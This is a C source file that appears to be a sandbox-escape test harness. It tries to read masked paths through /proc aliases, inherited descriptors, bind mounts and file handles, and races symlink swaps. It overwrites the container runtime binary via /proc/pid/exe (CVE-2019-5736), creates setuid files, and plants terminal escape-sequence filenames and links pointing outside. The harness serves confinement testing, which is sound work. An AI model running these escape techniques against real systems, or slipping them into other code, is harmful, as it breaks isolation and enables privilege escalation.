// Reading what is hidden and writing what is not given, by every alias of a path.
#include "common.h"
#include <pthread.h>
#include <sys/mount.h>
#include <sys/xattr.h>

static int read_direct(const char *path) {
    leak_path(path, "open");
    int fd = syscall(SYS_openat, AT_FDCWD, path, O_RDONLY);
    leak(fd, "openat");
    struct { uint64_t flags, mode, resolve; } how = {O_RDONLY, 0, 0};
    leak(syscall(437, AT_FDCWD, path, &how, sizeof how), "openat2");
    int o = open(path, O_PATH);
    if (o >= 0) {
        char via[64];
        snprintf(via, sizeof via, "/proc/self/fd/%d", o);
        leak_path(via, "O_PATH reopened");
    }
    char *map = MAP_FAILED;
    fd = open(path, O_RDONLY);
    if (fd >= 0) map = mmap(0, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
    if (map != MAP_FAILED) got("mmap %.200s", map);
    return 0;
}

struct alias { const char *path; };

static void one_root(int pid, void *arg) {
    const char *names[] = {"root", "cwd", "task/%d/root"};
    for (int i = 0; i < 3; i++) {
        char tail[64], via[8192];
        snprintf(tail, sizeof tail, names[i], pid);
        snprintf(via, sizeof via, "/proc/%d/%s/../../../../../../../../..%s", pid, tail, ((struct alias *)arg)->path);
        leak_path(via, via);
        snprintf(via, sizeof via, "/proc/%d/%s%s", pid, tail, ((struct alias *)arg)->path);
        leak_path(via, via);
    }
    char maps[64];
    snprintf(maps, sizeof maps, "/proc/%d/map_files", pid);
    DIR *d = opendir(maps);
    if (d) closedir(d);
}

static int roots(const char *path) {
    struct alias a = {path};
    each_pid(one_root, &a);
    char via[8192];
    const char *selves[] = {"/proc/self/root", "/proc/thread-self/root", "/proc/self/cwd/../../../../../../../.."};
    for (int i = 0; i < 3; i++) {
        snprintf(via, sizeof via, "%s%s", selves[i], path);
        leak_path(via, via);
    }
    return 0;
}

// Everything reachable from one descriptor: itself, a name beneath, the tree above.
static void from_fd(int fd, const char *name, const char *path) {
    leak(fd, "inherited descriptor");
    int f = openat(fd, name, O_RDONLY);
    if (f >= 0) leak(f, "openat inherited descriptor");
    char up[8192];
    snprintf(up, sizeof up, "../../../../../../../../../..%s", path);
    f = openat(fd, up, O_RDONLY);
    if (f >= 0) leak(f, "up from inherited descriptor");
    if (fchdir(fd) == 0) {
        leak_path(name, "fchdir inherited descriptor");
        leak_path(up, "up from fchdir");
    }
}

static void fds_of(int pid, void *arg) {
    char **a = arg, dir[64], via[400];
    snprintf(dir, sizeof dir, "/proc/%d/fd", pid);
    DIR *d = opendir(dir);
    if (!d) return;
    for (struct dirent *e; (e = readdir(d));) {
        if (e->d_name[0] == '.') continue;
        snprintf(via, sizeof via, "%s/%s/%s", dir, e->d_name, a[0]);
        leak_path(via, via);
        snprintf(via, sizeof via, "%s/%s", dir, e->d_name);
        struct stat st;
        if (stat(via, &st) == 0 && (S_ISREG(st.st_mode) || S_ISDIR(st.st_mode))) {
            int fd = open(via, O_RDONLY | O_NONBLOCK);
            if (fd >= 0) {
                from_fd(fd, a[0], a[1]);
                close(fd);
            }
        }
    }
    closedir(d);
}

static int fds(char *name, char *path) {
    for (int fd = 0; fd < 1024; fd++)
        if (fcntl(fd, F_GETFD) >= 0) from_fd(fd, name, path);
    char *a[2] = {name, path};
    each_pid(fds_of, a);
    return 0;
}

static int cwd(const char *name) {
    char via[4096];
    leak_path(name, "relative to the first working directory");
    snprintf(via, sizeof via, "/proc/self/cwd/%s", name);
    leak_path(via, via);
    snprintf(via, sizeof via, "/proc/1/cwd/%s", name);
    leak_path(via, via);
    int here = open(".", O_PATH);
    snprintf(via, sizeof via, "/proc/self/fd/%d/%s", here, name);
    leak_path(via, via);
    return 0;
}

static int link_to(const char *path, const char *dest) {
    link(path, dest);
    tried("link");
    int o = open(path, O_PATH);
    char via[64];
    snprintf(via, sizeof via, "/proc/self/fd/%d", o);
    linkat(AT_FDCWD, via, AT_FDCWD, dest, AT_SYMLINK_FOLLOW);
    tried("linkat through /proc/self/fd");
    linkat(o, "", AT_FDCWD, dest, AT_EMPTY_PATH);
    tried("linkat of an empty path");
    leak_path(dest, "hard link");
    if (access(dest, F_OK) != 0) rename(path, dest);
    tried("rename");
    leak_path(dest, "renamed");
    return 0;
}

static volatile int stop;
static const char *swap_link, *swap_a, *swap_b;

static void *swapper(void *unused) {
    (void)unused;
    char tmp[4096];
    snprintf(tmp, sizeof tmp, "%s.tmp", swap_link);
    for (int i = 0; !stop; i++) {
        unlink(tmp);
        if (symlink(i & 1 ? swap_a : swap_b, tmp) == 0) rename(tmp, swap_link);
    }
    return 0;
}

// A symbolic link swapped between an allowed file and a hidden one while it is opened.
static int swap(const char *path, const char *allowed, const char *at) {
    swap_a = allowed;
    swap_b = path;
    swap_link = at;
    pthread_t t;
    pthread_create(&t, 0, swapper, 0);
    char buf[256];
    for (int i = 0; i < 30000; i++) {
        int fd = open(at, O_RDONLY);
        if (fd < 0) continue;
        ssize_t n = read(fd, buf, sizeof buf - 1);
        close(fd);
        if (n <= 0) continue;
        buf[n] = 0;
        if (!strstr(buf, "allowed")) {
            got("race won: %s", buf);
            break;
        }
    }
    stop = 1;
    pthread_join(t, 0);
    return 0;
}

static void uncover(const char *path) {
    char dir[4096];
    snprintf(dir, sizeof dir, "%s", path);
    for (char *slash; (slash = strrchr(dir, '/')) && slash != dir; *slash = 0) {
        if (umount2(dir, MNT_DETACH) == 0) {
            got("uncovered %s", dir);
            leak_path(path, "after umount");
        }
    }
    umount2(path, MNT_DETACH);
    leak_path(path, "after umount of the file");
}

static int bind_alias(const char *path, const char *at) {
    for (int pass = 0; pass < 2; pass++) {
        char via[8192];
        mkdir(at, 0700);
        if (mount("/", at, 0, MS_BIND | MS_REC, 0) == 0) {
            snprintf(via, sizeof via, "%s%s", at, path);
            leak_path(via, "recursive bind of /");
            umount2(at, MNT_DETACH);
        } else tried("bind of /");
        if (mount("/", at, 0, MS_BIND, 0) == 0) {
            snprintf(via, sizeof via, "%s%s", at, path);
            leak_path(via, "bind of / without what covers it");
        } else tried("flat bind of /");
        int tree = syscall(428, AT_FDCWD, "/", 1 /* OPEN_TREE_CLONE */);
        if (tree >= 0) {
            snprintf(via, sizeof via, ".%s", path);
            leak(openat(tree, path + 1, O_RDONLY), "cloned tree of /");
        } else tried("open_tree");
        uncover(path);
        if (pass == 0) {
            if (unshare(CLONE_NEWUSER | CLONE_NEWNS) != 0) {
                tried("unshare for a mount namespace");
                if (unshare(CLONE_NEWNS) != 0) {
                    tried("unshare of mounts alone");
                    break;
                }
            }
        }
    }
    return 0;
}

// `hex` is a file handle that the harness took outside: type, then bytes.
static int by_handle(const char *hex, const char *at) {
    struct { struct file_handle head; unsigned char bytes[128]; } h;
    memset(&h, 0, sizeof h);
    unsigned type, n = 0;
    if (sscanf(hex, "%x:", &type) != 1) return 64;
    for (const char *p = strchr(hex, ':') + 1; p[0] && p[1]; p += 2) sscanf(p, "%2hhx", &h.head.f_handle[n++]);
    h.head.handle_type = (int)type;
    h.head.handle_bytes = n;
    const char *mounts[] = {at, "/", "/usr", "/etc", "/tmp", "."};
    for (int i = 0; i < 6; i++) {
        int m = open(mounts[i], O_RDONLY);
        if (m >= 0) leak(open_by_handle_at(m, &h.head, O_RDONLY), mounts[i]);
    }
    return 0;
}

static int make_handle(const char *path) {
    struct { struct file_handle head; unsigned char bytes[128]; } h;
    int mount_id;
    h.head.handle_bytes = 128;
    if (name_to_handle_at(AT_FDCWD, path, &h.head, &mount_id, 0) != 0) return 1;
    printf("%x:", h.head.handle_type);
    for (unsigned i = 0; i < h.head.handle_bytes; i++) printf("%02x", h.head.f_handle[i]);
    return 0;
}

static void put(const char *path, const char *token, int flags, const char *how) {
    int fd = open(path, flags, 0644);
    if (fd >= 0 && write(fd, token, strlen(token)) > 0) errno = 0;
    if (fd >= 0) close(fd);
    tried(how);
}

// Every way to change a file or its name. `scratch` is a directory that may be written.
static int write_out(const char *path, const char *token, const char *scratch) {
    char via[4096], proc[64];
    put(path, token, O_WRONLY | O_APPEND, "append");
    put(path, token, O_RDWR, "overwrite");
    put(path, token, O_WRONLY | O_CREAT | O_TRUNC, "create");
    truncate(path, 1);
    tried("truncate");
    snprintf(via, sizeof via, "%s/link-out", scratch);
    symlink(path, via);
    put(via, token, O_WRONLY | O_CREAT, "through a symbolic link");
    snprintf(via, sizeof via, "/proc/self/root%s", path);
    put(via, token, O_WRONLY | O_CREAT, "through /proc/self/root");
    int o = open(path, O_RDONLY);
    if (o >= 0) {
        snprintf(proc, sizeof proc, "/proc/self/fd/%d", o);
        put(proc, token, O_WRONLY, "a read-only descriptor reopened");
        ftruncate(o, 1);
        tried("ftruncate of a read-only descriptor");
    }
    snprintf(via, sizeof via, "%s/replacement", scratch);
    put(via, token, O_WRONLY | O_CREAT, "scratch file");
    rename(via, path);
    tried("rename over it");
    link(via, path);
    tried("link to it");
    chmod(path, 0777);
    tried("chmod");
    setxattr(path, "user.escape", token, strlen(token), 0);
    tried("setxattr");
    snprintf(via, sizeof via, "%s.new", path);
    mkdir(via, 0755);
    tried("mkdir beside it");
    mknod(via, S_IFIFO | 0644, 0);
    tried("mknod beside it");
    unlink(path);
    tried("unlink");
    return 0;
}

static int fds_wanted[64], fd_count;

static void take_exe(int pid, void *self) {
    char via[64];
    if (pid == *(int *)self || fd_count >= 64) return;
    snprintf(via, sizeof via, "/proc/%d/exe", pid);
    int fd = open(via, O_PATH);
    if (fd >= 0) fds_wanted[fd_count++] = fd;
    else tried(via);
}

// The program that set the sandbox up, overwritten through a magic link once it no longer runs (CVE-2019-5736).
static int exe_over(const char *token, const char *only) {
    int self = getpid();
    if (only) take_exe(atoi(only), &self);
    else each_pid(take_exe, &self);
    for (int round = 0; round < 150; round++) {
        for (int i = 0; i < fd_count; i++) {
            char via[64];
            snprintf(via, sizeof via, "/proc/self/fd/%d", fds_wanted[i]);
            int fd = open(via, O_WRONLY | O_APPEND);
            if (fd >= 0) {
                if (write(fd, token, strlen(token)) > 0) got("wrote to another program's image");
                close(fd);
            }
        }
        struct timespec ts = {0, 10000000};
        nanosleep(&ts, 0);
    }
    tried("last attempt");
    return 0;
}

// The parent of a masked path renamed, so that the mask stays behind or follows wrongly.
static int rename_parent(const char *parent, const char *to, const char *rest) {
    char via[8192];
    rename(parent, to);
    tried("rename of the parent");
    snprintf(via, sizeof via, "%s/%s", to, rest);
    leak_path(via, "under the new name");
    syscall(SYS_renameat2, AT_FDCWD, parent, AT_FDCWD, to, 2 /* RENAME_EXCHANGE */);
    tried("exchange");
    leak_path(via, "after exchange");
    snprintf(via, sizeof via, "%s/%s", parent, rest);
    leak_path(via, "under the old name");
    // A whiteout or an opaque directory in an upper layer must not bring a masked lower file back.
    mkdir(parent, 0755);
    leak_path(via, "after the parent was made again");
    return 0;
}

// Descriptors 0, 1 and 2 reopened with more rights than they were given with.
static int stdio_reopen(const char *token) {
    for (int fd = 0; fd < 3; fd++) {
        char via[64], msg[256];
        snprintf(via, sizeof via, "/proc/self/fd/%d", fd);
        snprintf(msg, sizeof msg, "[%s]", token);
        int w = open(via, O_WRONLY | O_NONBLOCK);
        struct stat st;
        if (w >= 0 && fstat(w, &st) == 0 && S_ISREG(st.st_mode) && write(w, msg, strlen(msg)) > 0)
            got("descriptor %d is a writable file", fd);
        int r = open(via, O_RDONLY | O_NONBLOCK);
        if (fd > 0 && r >= 0 && fstat(r, &st) == 0 && S_ISREG(st.st_mode)) leak(r, "output descriptor read back");
        if (fd == 0) {
            ftruncate(0, 3);
            fchmod(0, 0777);
        }
    }
    return 0;
}

// Names that would drive a terminal, if a tool printed them as they are.
static int names(const char *token) {
    const char *forms[] = {"\x1b]0;%s\x07",  "\x1b[2J%s", "\x1b[31m%s", "\xc2\x9b" "31m%s", "\x9b" "31m%s", "a\r%s",
                           "a\n%s",           "a\b%s",     "\xe2\x80\xae%s", "\x1bP%s\x1b\\", "\x7f%s",         "\t%s"};
    for (unsigned i = 0; i < sizeof forms / sizeof *forms; i++) {
        char name[300];
        snprintf(name, sizeof name, forms[i], token);
        int fd = open(name, O_WRONLY | O_CREAT, 0644);
        if (fd >= 0) {
            dprintf(fd, "text \x1b]0;%s-body\x07 \x1b[2J\n", token);
            close(fd);
        }
    }
    symlink("\x1b]0;target\x07", "link");
    got("names made");
    return 0;
}

// What `apply` must not be led by: links out, a directory turned into a link, devices, setuid.
static int leave(const char *outside, const char *token, const char *self) {
    char via[4096];
    symlink(outside, "out");
    snprintf(via, sizeof via, "%s/victim", outside);
    symlink(via, "outfile");
    rename("d", "d.old");
    symlink(outside, "d");
    snprintf(via, sizeof via, "%s", "plain");
    put("plain", token, O_WRONLY | O_CREAT, "plain file");
    mknod("pipe", S_IFIFO | 0644, 0);
    mknod("null", S_IFCHR | 0666, (1 << 8) | 3);
    int in = open(self, O_RDONLY), out = open("suid", O_WRONLY | O_CREAT, 0755);
    char buf[65536];
    for (ssize_t n; in >= 0 && out >= 0 && (n = read(in, buf, sizeof buf)) > 0;)
        if (write(out, buf, (size_t)n) < 0) break;
    if (out >= 0) close(out);
    chmod("suid", 06755);
    tried("setuid bit");
    got("left behind");
    return 0;
}

// A set-uid file by every door that makes or changes one.
static int setid(void) {
    struct { uint64_t flags, mode, resolve; } how = {O_WRONLY | O_CREAT, 06755, 0};
    umask(0);
    close(open("by-open", O_WRONLY | O_CREAT, 06755));
    tried("open");
    close(syscall(SYS_openat, AT_FDCWD, "by-openat", O_WRONLY | O_CREAT, 06755));
    tried("openat");
    close(syscall(437, AT_FDCWD, "by-openat2", &how, sizeof how));
    tried("openat2");
    close(syscall(437, AT_FDCWD, "plain", &how, sizeof how));
    int fd = open(".", O_WRONLY | O_TMPFILE, 06755);
    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    if (fd >= 0) linkat(AT_FDCWD, path, AT_FDCWD, "by-tmpfile", AT_SYMLINK_FOLLOW);
    tried("O_TMPFILE");
    mknod("by-mknod", S_IFREG | 06755, 0);
    tried("mknod");
    syscall(SYS_mknodat, AT_FDCWD, "by-mknodat", S_IFREG | 06755, 0);
    tried("mknodat");
#ifdef SYS_creat
    close(syscall(SYS_creat, "by-creat", 06755));
    tried("creat");
#endif
    fd = open("by-mode", O_WRONLY | O_CREAT, 0755);
    chmod("by-mode", 04755);
    tried("chmod");
    fchmod(fd, 04755);
    tried("fchmod");
    fchmodat(AT_FDCWD, "by-mode", 04755, 0);
    tried("fchmodat");
    syscall(452, AT_FDCWD, "by-mode", 04755, 0);
    tried("fchmodat2");
    printf("ATTEMPT done\n");
    return 0;
}

static int sparse(void) {
    int fd = open("huge", O_WRONLY | O_CREAT, 0644);
    if (fd < 0 || ftruncate(fd, 1LL << 40) != 0) {
        tried("a file of 1 TiB without content");
        ftruncate(fd, 1LL << 36);
    }
    tried("ftruncate");
    got("sparse file made");
    return 0;
}

int main(int argc, char **argv) {
    if (argc < 2) return usage();
    char *a = argv[1], *x = argc > 2 ? argv[2] : 0, *y = argc > 3 ? argv[3] : 0, *z = argc > 4 ? argv[4] : 0;
    if (!is(a, "make-handle")) printf("ATTEMPT %s\n", a), fflush(stdout);
    if (is(a, "read") && x) return read_direct(x);
    if (is(a, "roots") && x) return roots(x);
    if (is(a, "fds") && y) return fds(x, y);
    if (is(a, "cwd") && x) return cwd(x);
    if (is(a, "link") && y) return link_to(x, y);
    if (is(a, "swap") && z) return swap(x, y, z);
    if (is(a, "bind") && y) return bind_alias(x, y);
    if (is(a, "handle") && y) return by_handle(x, y);
    if (is(a, "make-handle") && x) return make_handle(x);
    if (is(a, "write") && z) return write_out(x, y, z);
    if (is(a, "exe") && x) return exe_over(x, y);
    if (is(a, "rename-parent") && z) return rename_parent(x, y, z);
    if (is(a, "stdio") && x) return stdio_reopen(x);
    if (is(a, "names") && x) return names(x);
    if (is(a, "leave") && z) return leave(x, y, z);
    if (is(a, "sparse")) return sparse();
    if (is(a, "setid")) return setid();
    return usage();
}
